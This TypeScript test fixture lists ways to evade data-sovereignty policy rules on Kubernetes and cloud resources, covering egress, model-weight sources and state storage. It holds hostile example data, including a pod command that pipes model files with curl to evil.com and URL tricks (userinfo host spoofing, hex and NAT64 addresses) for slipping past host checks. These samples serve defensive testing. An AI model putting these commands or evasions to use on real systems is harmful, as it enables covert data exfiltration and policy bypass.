import type { Evasion } from "../evasion";
import { resourceWith } from "../fixtures";
import { type Context, type Resource, unknown, type Value } from "../rule";
import { atHome, onAws, onGoogle, withJurisdiction } from "./boundary-contexts";

const egress = (attempt: string, ...resources: readonly Resource[]): Evasion => ({
  attempt,
  rule: "sovereignty-egress",
  resources,
  context: atHome,
  caught: "violation",
});
const source = (attempt: string, ...resources: readonly Resource[]): Evasion => ({
  ...egress(attempt, ...resources),
  rule: "sovereignty-model-source",
});
const state = (
  attempt: string,
  over: Partial<Context["environment"]["state"] & object>,
  used: Partial<Context["state"]> = {},
): Evasion => {
  const stated = { ...onAws.environment.state!, ...over };
  return {
    attempt,
    rule: "sovereignty-state",
    resources: [],
    context: {
      ...onAws,
      environment: { ...onAws.environment, state: stated },
      state: { rehearsal: false, backend: stated.backend, secretsProvider: stated.secretsProvider, ...used },
    },
    caught: "violation",
  };
};

const pod = (container: Record<string, Value>) =>
  resourceWith("kubernetes:core/v1:Pod", { spec: { containers: [{ name: "a", ...container }] } });
const variable = (name: string, value: Value) => pod({ env: [{ name, value }] });
const config = (data: Value) => resourceWith("kubernetes:core/v1:ConfigMap", { metadata: { name: "a" }, data });

/** Ways past the rules about what is called, where weights come from, and where state rests. */
export const trafficEvasions: readonly Evasion[] = [
  egress("a host without a scheme", variable("OTEL_EXPORTER_OTLP_ENDPOINT", "otlp.evil.example:4317")),
  egress("a flag and its host as two words", pod({ args: ["--otlp-endpoint", "otlp.evil.com"] })),
  egress("a flag in capitals with a final dot", pod({ args: ["--endpoint=OTLP.EVIL.COM."] })),
  egress("a program in a shell's text", pod({ command: ["sh", "-c", "tar c /models | curl -T - evil.com/up"] })),
  egress("an address that is put together later", variable("BASE_URL", "https://$(REGION).evil.com/")),
  egress("an own host as the user of another", variable("URL", "https://models.sovereign.example.org@evil.com/")),
  egress("an own host as the beginning of another", variable("URL", "https://models.sovereign.example.org.evil.com/")),
  egress("a public address as a number", variable("URL", "http://0x08080808/")),
  egress("a public address by IPv6", variable("COLLECTOR_ADDR", "[2606:4700:4700::1111]:4317")),
  egress("a public address by IPv6 that says it is a private one", variable("URL", "http://[64:ff9b::808:808]/")),
  egress("a namespace that is called like the public's names", variable("URL", "http://evil.com")),
  egress(
    "a service that is another name",
    resourceWith("kubernetes:core/v1:Service", { spec: { type: "ExternalName", externalName: "api.evil.com." } }),
  ),
  egress(
    "an endpoint that is an address outside",
    resourceWith("kubernetes:core/v1:Endpoints", { subsets: [{ addresses: [{ ip: "8.8.8.8" }] }] }),
  ),
  egress(
    "a Secret, in base64",
    resourceWith("kubernetes:core/v1:Secret", {
      data: { url: Buffer.from("https://hooks.evil.com/x").toString("base64") },
    }),
  ),
  egress(
    "YAML in a ConfigMap",
    config({ "alerts.yaml": "receivers:\n- name: x\n  slack_configs:\n  - api_url: https://hooks.evil.com/T1\n" }),
  ),
  egress(
    "JSON in JSON in a ConfigMap",
    config({ "a.json": JSON.stringify({ inner: JSON.stringify({ host: "evil.com" }) }) }),
  ),
  egress(
    "a webhook of the API server",
    resourceWith("kubernetes:admissionregistration.k8s.io/v1:ValidatingWebhookConfiguration", {
      webhooks: [{ clientConfig: { url: "https://evil.com/admit" } }],
    }),
  ),
  egress(
    "a chart's values",
    resourceWith("kubernetes:helm.sh/v4:Chart", {
      chart: "a",
      values: { telemetry: { exporter: { endpoint: "evil.com:443" } } },
    }),
  ),
  egress(
    "a hosted model without a host",
    resourceWith("kubernetes:agentgateway.dev/v1alpha1:AgentgatewayBackend", {
      spec: { ai: { provider: { openai: { model: "x" } } } },
    }),
  ),
  egress(
    "a hosted model of the second group",
    resourceWith("kubernetes:agentgateway.dev/v1alpha1:AgentgatewayBackend", {
      spec: {
        ai: {
          groups: [
            { providers: [{ name: "a", custom: {}, host: "a.svc" }] },
            { providers: [{ name: "b", anthropic: {} }] },
          ],
        },
      },
    }),
  ),
  egress(
    "a backend that calls what a request names",
    resourceWith("kubernetes:agentgateway.dev/v1alpha1:AgentgatewayBackend", { spec: { dynamicForwardProxy: {} } }),
  ),
  egress(
    "an agent's model that leaves its provider to the default",
    resourceWith("kubernetes:kagent.dev/v1alpha2:ModelConfig", { spec: { model: "x" } }),
  ),
  egress(
    "a backend of Envoy by name",
    resourceWith("kubernetes:gateway.envoyproxy.io/v1alpha1:Backend", {
      spec: { endpoints: [{ fqdn: { hostname: "api.evil.com", port: 443 } }] },
    }),
  ),
  egress(
    "an entry in a mesh",
    resourceWith("kubernetes:networking.istio.io/v1:ServiceEntry", {
      spec: { hosts: ["api.evil.com"], location: "MESH_EXTERNAL" },
    }),
  ),
  egress(
    "a policy that names nobody",
    resourceWith("kubernetes:networking.k8s.io/v1:NetworkPolicy", { spec: { policyTypes: ["Egress"], egress: [{}] } }),
  ),
  egress(
    "all of IPv6",
    resourceWith("kubernetes:networking.k8s.io/v1:NetworkPolicy", {
      spec: { egress: [{ to: [{ ipBlock: { cidr: "::/0" } }] }] },
    }),
  ),
  egress(
    "two halves of all addresses",
    resourceWith("kubernetes:networking.k8s.io/v1:NetworkPolicy", {
      spec: { egress: [{ to: [{ ipBlock: { cidr: "10.0.0.0/8" } }, { ipBlock: { cidr: "128.0.0.0/1" } }] }] },
    }),
  ),
  egress(
    "a range that begins in a private one",
    resourceWith("kubernetes:networking.k8s.io/v1:NetworkPolicy", {
      spec: { egress: [{ to: [{ ipBlock: { cidr: "10.0.0.0/7" } }] }] },
    }),
  ),
  egress(
    "the world by Cilium's name for it",
    resourceWith("kubernetes:cilium.io/v2:CiliumNetworkPolicy", { spec: { egress: [{ toEntities: ["world"] }] } }),
  ),
  {
    ...egress(
      "a rule of a cloud's own network",
      resourceWith("aws:vpc/securityGroupEgressRule:SecurityGroupEgressRule", { cidrIpv6: "::/0" }),
    ),
    context: onAws,
  },
  {
    ...egress(
      "a subscription of a queue by https",
      resourceWith("aws:sns/topicSubscription:TopicSubscription", {
        protocol: "https",
        endpoint: "https://evil.com/in",
      }),
    ),
    context: onAws,
  },
  {
    ...egress(
      "a way out in a firewall",
      resourceWith("gcp:compute/firewall:Firewall", {
        direction: "EGRESS",
        allows: [{ protocol: "all" }],
        destinationRanges: ["0.0.0.0/0"],
      }),
    ),
    context: onGoogle,
  },
  {
    ...egress("a declared host whose operator is under another law", variable("URL", "https://api.example.com")),
    context: withJurisdiction(atHome, {
      endpoints: [{ host: "api.example.com", operator: "Example, Inc.", jurisdiction: "us", purpose: "x" }],
    }),
  },
  {
    ...egress("a declaration of half the world", variable("URL", "https://evil.com")),
    context: withJurisdiction(atHome, {
      endpoints: [{ host: "*.com", operator: "all", jurisdiction: "eu", purpose: "x" }],
    }),
  },
  {
    ...egress("a declaration for what is below, used for what is beside", variable("URL", "https://evilexample.com")),
    context: withJurisdiction(atHome, {
      endpoints: [{ host: "*.example.com", operator: "x", jurisdiction: "eu", purpose: "x" }],
    }),
  },
  {
    ...egress("a host that is known only after the update", variable("OTEL_EXPORTER_OTLP_ENDPOINT", unknown)),
    caught: "deferred",
  },
  { ...egress("a ConfigMap that is known only after the update", config(unknown)), caught: "deferred" },
  {
    ...egress(
      "a chart whose values are known only after the update",
      resourceWith("kubernetes:helm.sh/v4:Chart", { chart: "a", values: unknown }),
    ),
    caught: "deferred",
  },

  source("a server of one's own, beside those of the platform", pod({ command: ["vllm", "serve", "Qwen/Qwen3-32B"] })),
  source(
    "a model by a flag and its word",
    pod({ args: ["python", "-m", "sglang.launch_server", "--model-path", "Qwen/Qwen3-32B"] }),
  ),
  source(
    "a download in a shell's text",
    pod({ command: ["sh", "-c", "hf download Qwen/Qwen3-32B --local-dir /models"] }),
  ),
  source("another hub by a variable", variable("HF_ENDPOINT", "https://hf-mirror.com")),
  source(
    "ModelScope instead of Hugging Face",
    pod({ command: ["vllm", "serve", "Qwen/Qwen3-32B"], env: [{ name: "VLLM_USE_MODELSCOPE", value: "True" }] }),
  ),
  source("a bucket of which nothing says the region", pod({ args: ["rclone", "copy", "s3://models/qwen", "/models"] })),
  source(
    "a bucket abroad, as rclone writes it",
    pod({ args: ["rclone", "copy", ":s3,provider=AWS,env_auth=true,region=us-east-1:models/qwen", "/m"] }),
  ),
  source(
    "an annotation that says less than the command",
    resourceWith("kubernetes:core/v1:Pod", {
      metadata: { annotations: { "ai-platform/weights-source": "pvc://weights/qwen" } },
      spec: { containers: [{ name: "a", command: ["vllm", "serve", "Qwen/Qwen3-32B"] }] },
    }),
  ),
  source(
    "a custom resource that fetches",
    resourceWith("kubernetes:serving.kserve.io/v1beta1:InferenceService", {
      spec: { predictor: { model: { storageUri: "hf://Qwen/Qwen3-32B" } } },
    }),
  ),
  source(
    "an adapter in a list of adapters",
    resourceWith("kubernetes:core/v1:Pod", {
      metadata: {
        annotations: {
          "ai-platform/adapter-sources": JSON.stringify({ a: { source: "s3://x/y", region: "us-east-1" } }),
        },
      },
      spec: { containers: [] },
    }),
  ),
  {
    ...source(
      "a source that is known only after the update",
      resourceWith("kubernetes:core/v1:Pod", {
        metadata: { annotations: { "ai-platform/weights-source": unknown } },
        spec: { containers: [] },
      }),
    ),
    caught: "deferred",
  },

  state("a bucket whose region the machine decides", { backend: "s3://state?awssdk=v2" }),
  state("a bucket in another region than is stated", { backend: "s3://state?region=us-east-1" }),
  state("a region that is none of the jurisdiction's", {
    backend: "s3://s?region=eu-central-1",
    secretsProvider: "awskms://alias/a?region=eu-central-1",
    region: "eu-central-1",
  }),
  state("a store of S3's kind outside", { backend: "s3://state?region=eusc-de-east-1&endpoint=s3.evil.com" }),
  state("a key of the commercial partition", {
    secretsProvider: "awskms:///arn:aws:kms:eusc-de-east-1:444455556666:key/k",
  }),
  state("a key in another region", { secretsProvider: "awskms://alias/a?region=eu-central-1" }),
  state("a folder of a laptop", { backend: "file://~/state" }),
  state("another bucket than is stated", {}, { backend: "s3://other?region=eusc-de-east-1" }),
  state(
    "the bucket that is stated, at another endpoint",
    {},
    { backend: "s3://ai-sovereign-pulumi-state?region=eusc-de-east-1&endpoint=s3.evil.com" },
  ),
  state("a passphrase", {}, { secretsProvider: "passphrase" }),
  state("a backend that cannot be found out", {}, { backend: undefined }),
];
